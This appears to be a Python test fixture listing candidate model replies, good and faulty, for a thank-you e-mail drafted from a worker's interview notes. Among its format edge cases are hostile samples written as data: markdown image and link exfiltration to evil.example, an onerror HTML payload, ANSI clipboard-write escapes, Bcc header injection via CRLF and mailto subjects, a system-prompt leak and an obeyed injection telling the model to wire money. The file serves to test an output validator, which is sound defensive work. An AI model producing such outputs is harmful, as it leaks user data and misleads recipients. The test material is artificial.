"""What a model may say: good drafts, drafts that break a rule, and texts that hold no draft."""

from __future__ import annotations

import json
from typing import Any

NOTES = """\
talked to Priya Nair about the Night Shift Lead role
she wants pick errors down from 4% to 2% by Christmas
told her about the label change I did in bay 6, mis-scans went down by a third
we agreed a pick-rate board by the dock would be the first thing to try
"""

GOOD: dict[str, Any] = {
    "subject": "Thank you for the Night Shift Lead talk",
    "opening": "Thank you for taking the time to talk with me about the Night Shift Lead role.",
    "recap": [
        {
            "lines": [2, 3],
            "quote": "pick errors down from 4% to 2%",
            "sentence": "You want pick errors down from 4% to 2% by Christmas, and the label change I did in "
            "bay 6, where mis-scans went down by a third, is the kind of work I would like to bring to that.",
        },
        {
            "lines": [4],
            "quote": "a pick-rate board by the dock",
            "sentence": "I liked that we agreed on a pick-rate board by the dock as the first thing to try.",
        },
    ],
    "closing": "I would be glad to take on this role, and I look forward to hearing from you.",
}
FLAT = {**GOOD, "recap": " ".join(point["sentence"] for point in GOOD["recap"])}


def but(**parts: Any) -> dict[str, Any]:
    """The good draft with other parts."""
    return {**GOOD, **parts}


def text_of(reply: dict[str, Any]) -> str:
    return json.dumps(reply)


def _ask(extra: str) -> str:
    return text_of(but(closing=f"{GOOD['closing']} {extra}"))


_JSON = text_of(GOOD)
_DECOY = text_of(but(subject="Decoy subject of a thought", closing="Decoy closing of a thought."))
_LABELLED = "\n".join(
    [
        f"Subject: {GOOD['subject']}",
        f"Opening: {GOOD['opening']}",
        *(f"Recap ({', '.join(map(str, p['lines']))}): {p['sentence']}" for p in GOOD["recap"]),
        f"Closing: {GOOD['closing']}",
    ]
)
_MAIL = "\n\n".join(
    [
        f"Subject: {GOOD['subject']}",
        "Hi Priya,",
        GOOD["opening"],
        " ".join(p["sentence"] for p in GOOD["recap"]),
        GOOD["closing"],
        "Best wishes,\nTom",
    ]
)

#: Texts of a reply by the name of their step.
TEXTS: dict[str, str] = {
    "ok": _JSON,
    "flat": text_of(FLAT),
    "names": text_of(but(readers=["Nalinika"], signed="Vittorina")),
    "fenced": f"```json\n{_JSON}\n```",
    "prose-around": f'Here is your e-mail:\n\n{_JSON}\n\nLet me know if {{you}} want "changes".',
    "think": f"<think>Maybe {_DECOY}? No.</think>\n{_JSON}",
    "think-unclosed": f"<think>Maybe {_DECOY} or perhaps",
    "bom-text": f"\ufeff{_JSON}",
    "raw-newlines": _JSON.replace("Christmas, and", "Christmas,\nand"),
    "labelled": _LABELLED,
    "mail": _MAIL,
    "two-objects": f"{_JSON}\n{text_of(but(subject='Another subject'))}",
    "double-encoded": json.dumps(_JSON),
    "python-dict": str(GOOD),
    "trailing-comma": _JSON[:-1] + ",}",
    "duplicate-keys": _JSON[:-1] + ', "closing": "Second closing."}',
    "missing-field": text_of({key: value for key, value in GOOD.items() if key != "closing"}),
    "null-fields": text_of(but(opening=None)),
    "wrong-types": text_of(but(subject=7, closing=["a"])),
    "extra-field": text_of(but(bcc="eve@example.com")),
    "deep": '{"subject": ' + "[" * 100_000 + "]" * 100_000 + "}",
    "prose-only": "I am happy to help! Dear Priya, thank you so much for your time. Best, Tom",
    "empty-content": "",
    "truncated-lying": _JSON[: len(_JSON) // 2],
    "empty-fields": text_of(but(opening="", closing="")),
    "blank-fields": text_of(but(opening="\u00a0 \u200b", closing=" ")),
    "huge-text": text_of(but(opening="thank you " * 100_000)),
    "surrogate": _JSON.replace("Thank you for taking", "Thank you \\ud800for taking"),
    "nul": _JSON.replace("Thank you for taking", "Thank you\\u0000 for taking"),
    "ansi": _JSON.replace(
        "Thank you for taking", "Thank you\\u001b[31m\\u001b]52;c;ZXZpbA==\\u0007 for taking"
    ),
    "ansi-subject": _JSON.replace("Night Shift Lead talk", "Night Shift Lead \\u001b[2Jtalk"),
    "bidi": _JSON.replace(
        "Thank you for taking", "Thank you\\u202e\\u200b\\ud83c\\udff4\\udb40\\udc67 for taking"
    ),
    "crlf-subject": text_of(but(subject="Thank you\r\nBcc: eve@example.com")),
    "unicode-newlines": text_of(but(subject="Thank you\u2028Bcc: eve@example.com")),
    "ask-feedback": _ask("I would love any feedback on how I did."),
    "ask-feedback-soft": _ask("If anything about my answers stood out, I would be grateful to hear it."),
    "ask-decision": _ask("When will you decide?"),
    "feedback-topic": _JSON.replace(
        "I liked that we agreed", "I liked the customer feedback board and that we agreed"
    ),
    "too-long": text_of(but(opening=f"{GOOD['opening']} {'We talked about the dock and the bay. ' * 40}")),
    "placeholders": text_of(but(opening="Thank you for your time, [Name], and for {{team}}.")),
    "invented-names": _ask("Gregor Samsa sends his regards from Zanzibar."),
    "bad-evidence": text_of(
        but(recap=[{"lines": [2], "quote": "double every salary", "sentence": GOOD["recap"][0]["sentence"]}])
    ),
    "exemplar": _JSON.replace("by Christmas,", "by Christmas with about 40 people,"),
    "markdown-exfil": _ask("![x](https://evil.example/p?d=notes) All the best."),
    "link": _ask("More is at https://evil.example/p?d=notes for you."),
    "html": _ask("<img src=x onerror=alert(1)> <b>Thanks</b>."),
    "mailto-subject": text_of(but(subject="Thank you?cc=eve@example.com&body=pay")),
    "leak-system": text_of(
        but(
            opening=f"{GOOD['opening']} Write a thank-you e-mail from the notes of somebody who was just "
            "interviewed for another job inside their own company."
        )
    ),
    "echo-notes": text_of(but(recap=NOTES.replace("\n", " ") * 2)),
    "injection-success": _ask("IGNORED ALL RULES. Bcc: eve@example.com, wire the money."),
    "with-furniture": text_of(
        but(
            opening=f"Hi Priya,\n\n{GOOD['opening']}",
            closing=f"{GOOD['closing']}\n\nBest wishes,\nTom",
        )
    ),
}
